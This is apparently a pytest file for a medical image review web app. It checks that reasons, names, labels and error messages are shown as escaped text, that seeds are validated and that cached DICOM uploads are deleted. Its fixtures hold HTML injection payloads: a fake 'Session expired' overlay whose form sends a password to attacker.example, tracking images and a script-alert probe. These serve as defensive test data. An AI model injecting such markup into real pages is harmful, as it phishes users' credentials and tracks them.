"""What people type reaches the page as text (#25): no HTML or Markdown from a reason, label or
file name; long history texts shortened with the whole on demand; raw API values checked;
gradio's cached copies of medical uploads deleted when they leave the upload box."""

from __future__ import annotations

import types

import markdown
import pytest

from medart_core.errors import MedArtError
from medart_core.store import ReviewStore, import_dataset
from medart_core.text_limits import whole_number
from medart_ui.shared import as_text, generate_files
from medart_ui.tabs.review import revision_text, show_entry
from test_store import make_dataset

OVERLAY = ('<div style="position:fixed;inset:0;background:white">Session expired</div>'
           '<form action="http://attacker.example/steal"><input name="password"></form>'
           '<img src="http://attacker.example/track.png"> [sign in again](http://attacker.example) # Heading')


@pytest.fixture
def review_app(tmp_path):
    store = ReviewStore(tmp_path / "review.sqlite")
    import_dataset(store, make_dataset(tmp_path / "data"), author="import")
    return types.SimpleNamespace(store=store)


def rendered(markdown_text: str) -> str:
    """The HTML a Markdown renderer makes of the text (raw HTML passes through, as in gr.Markdown)."""
    return markdown.markdown(markdown_text)


def test_a_flag_reason_is_shown_as_text_not_as_html(review_app):
    key = review_app.store.entries()[0].key
    review_app.store.flag(key, OVERLAY, revision=review_app.store.get(key).revision, author="mallory<b>")
    _, details, *_ = show_entry(review_app, key)
    page = rendered(details)
    for tag in ("<div", "<form", "<input", "<img", "<a ", "<h1", "<b>"):
        assert tag not in page
    assert "Session expired" in page and "&lt;form" in page  # the text is there, as characters


def test_markdown_punctuation_in_user_text_is_literal():
    page = rendered(as_text("![x](http://e/t.png) **bold** <script>alert(1)</script>\n# title"))
    assert "<img" not in page and "<strong>" not in page and "<script" not in page and "<h1" not in page
    assert "**bold**" in page and "![x](http://e/t.png)" in page


def test_history_shows_a_long_text_shortened_and_the_whole_text_on_demand(review_app):
    key = review_app.store.entries()[0].key
    long_text = " ".join(["hyperintense lesion"] * 100)[:1990]
    saved = review_app.store.save(key, long_text, revision=review_app.store.get(key).revision, author="alice")
    *_, rows, _, _ = show_entry(review_app, key)
    newest = rows[0][-1]
    assert len(newest) < 400 and f"{len(long_text):,} characters" in newest
    assert revision_text(review_app, key, saved.number) == long_text
    with pytest.raises(MedArtError, match="no revision"):
        revision_text(review_app, key, 999)


@pytest.mark.parametrize("value", [float("nan"), float("inf"), 2.5, "two", None, True])
def test_a_seed_that_is_no_whole_number_is_refused_with_a_message(value):
    never_called = types.SimpleNamespace()  # the check comes before the generator is touched
    with pytest.raises(MedArtError, match="seed must be a whole number"):
        generate_files(never_called, "An axial brain MRI slice", None, value, 4, 3.0, 1)


def test_whole_numbers_arrive_as_ints():
    assert whole_number(3.0, "seed") == 3 and whole_number("7", "seed") == 7 and whole_number(2, "seed") == 2


def test_medical_uploads_leaving_the_box_are_deleted_from_gradios_cache(tmp_path, monkeypatch):
    from medart_ui.files import forget_uploads, sweep_uploads

    cache = tmp_path / "gradio"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(cache))
    (cache / "a1").mkdir(parents=True)
    dicom, zipped, png = cache / "a1" / "Doe^Jane.dcm", cache / "a1" / "series.zip", cache / "a1" / "photo.png"
    outside = tmp_path / "mine.dcm"
    for path in (dicom, zipped, png, outside):
        path.write_bytes(b"x")
    assert forget_uploads([str(dicom), str(png), str(outside)]) == [dicom]
    assert not dicom.exists() and png.exists() and outside.exists()  # only medical files, only gradio's
    assert sweep_uploads() == [zipped] and not zipped.exists() and png.exists()


def test_an_error_message_quoting_user_text_reaches_gradio_escaped():
    import gradio as gr

    from medart_ui.shared import guard

    @guard
    def refuse(label):
        raise MedArtError(f"no real images of class {label!r} in the store")

    with pytest.raises(gr.Error) as raised:
        refuse('<img src="http://attacker.example/t.png">')
    assert "<img" not in raised.value.message and "&lt;img" in raised.value.message
